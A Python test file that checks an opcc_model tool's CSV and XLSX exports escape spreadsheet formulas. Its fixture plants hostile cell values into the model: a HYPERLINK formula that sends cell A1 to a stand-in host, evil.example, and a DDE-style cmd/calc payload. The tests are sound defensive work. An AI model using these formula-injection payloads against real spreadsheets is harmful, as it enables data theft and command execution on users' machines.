"""No cell of any CSV or XLSX output is ever run by a spreadsheet as a formula (issue 15, item 2)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import opcc_model
from tests.editing import copy_minimal
from opcc_model.cli import main
from opcc_model.render.site import build_site
from opcc_model.spreadsheet import FORMULA_TRIGGERS, csv_cell, csv_text

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
PROCESS = "processes/engage-consult/conduct-stakeholder-analysis.yaml"


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), max_size=5))
def test_no_csv_cell_starts_a_formula_and_every_cell_reads_back(rows: list[list[str]]) -> None:
    width = max((len(row) for row in rows), default=1)
    rows = [row + [""] * (width - len(row)) for row in rows]
    header = [f"c{i}" for i in range(width)]
    parsed = list(csv.reader(io.StringIO(csv_text(header, rows), newline="")))
    assert parsed[0] == header
    assert len(parsed) == len(rows) + 1
    for written, original in zip(parsed[1:], rows):
        for cell, value in zip(written, original):
            assert not cell.startswith(FORMULA_TRIGGERS)
            assert cell == ("'" + value if value.startswith(FORMULA_TRIGGERS) else value)


@given(st.integers())
def test_numbers_stay_numbers(number: int) -> None:
    assert csv_cell(number) == str(number)


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """The minimal model with names a spreadsheet would run: a role, an activity, a process."""
    root = copy_minimal(tmp_path)
    roles = root / "processes/roles.yaml"
    roles.write_text(roles.read_text().replace("name: Police and Crime Commissioner", f"name: '{HOSTILE}'"))
    process = root / PROCESS
    text = process.read_text().replace("name: Identify stakeholders", "name: '@SUM(1+1)*cmd|'' /C calc''!A0'")
    process.write_text(text.replace("name: Agree outcomes with partners", "name: '-2+3'"))
    opcc_model.load(root)  # still a valid model
    return root


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_safe(text: str) -> None:
    cells = _cells(text)
    assert "'-2+3" in cells or "'@SUM(1+1)*cmd|' /C calc'!A0" in cells, cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]


def test_raci_csv_export_escapes_formulas(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert main(["export", "raci", str(hostile), "--out", str(out), "--area", "example-area"]) == 0
    written = sorted(out.glob("*.csv"))
    assert written
    for path in written:
        _assert_safe(path.read_text(encoding="utf-8"))


def test_site_raci_csv_escapes_formulas(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "site"
    build_site(opcc_model.load(hostile), out)
    _assert_safe((out / "raci-example-area.csv").read_text(encoding="utf-8"))


def test_query_csv_escapes_formulas(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["query", "downstream", str(hostile), "identify-stakeholders", "--format", "csv"]) == 0
    _assert_safe(capsys.readouterr().out)


def test_xlsx_holds_no_formula(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert main(["export", "raci", str(hostile), "--out", str(out), "--format", "xlsx", "--area", "example-area"]) == 0
    books = sorted(out.glob("*.xlsx"))
    assert books
    seen = set()
    for path in books:
        for row in openpyxl.load_workbook(path).active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                seen.add(cell.value)
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    assert HOSTILE in seen  # the name is kept, as text
